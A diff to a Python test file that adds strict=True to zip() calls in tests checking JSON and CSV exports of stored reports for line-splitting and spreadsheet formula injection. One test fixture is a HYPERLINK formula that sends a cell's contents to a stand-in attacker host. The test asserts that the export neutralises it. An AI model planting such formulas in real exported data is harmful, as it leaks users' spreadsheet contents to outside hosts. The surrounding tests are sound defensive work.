@@ -99,7 +99,7 @@ def test_json_export_keeps_each_report_on_one_line_whatever_its_text(tmp_path):
     lines = out.splitlines()  # splits on U+2028, U+0085, \x1c... as well as \n
     assert len(lines) == len(stored)
     assert out.count("\n") == len(stored)
-    for line, report in zip(lines, stored):
+    for line, report in zip(lines, stored, strict=True):
         row = json.loads(line)
         assert row["description"] == report.description  # nothing lost, only escaped
         assert row["urls"] == report.urls
@@ -115,12 +115,12 @@ def test_csv_export_has_no_cell_a_spreadsheet_reads_as_a_formula(tmp_path):
     assert len(lines) == len(stored) + 1 and out.count("\n") == len(stored) + 1
     rows = list(csv.DictReader(io.StringIO(out)))
     assert len(rows) == len(stored)
-    for row, report in zip(rows, stored):
+    for row, report in zip(rows, stored, strict=True):
         for name, value in row.items():
             assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
             assert not any(c in value for c in "\n\r\t\u2028\u2029\x85\u202e\u200b"), (name, value)
         assert row["id"] == report.id and row["reference"]
-    by_text = {r.description: row["description"] for r, row in zip(stored, rows)}
+    by_text = {r.description: row["description"] for r, row in zip(stored, rows, strict=True)}
     assert by_text["=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"].startswith("'=HYPERLINK(")
     assert by_text["-2+3"] == "'-2+3"
     assert by_text["first\nsecond\r\nthird"] == "first\\nsecond\\r\\nthird"
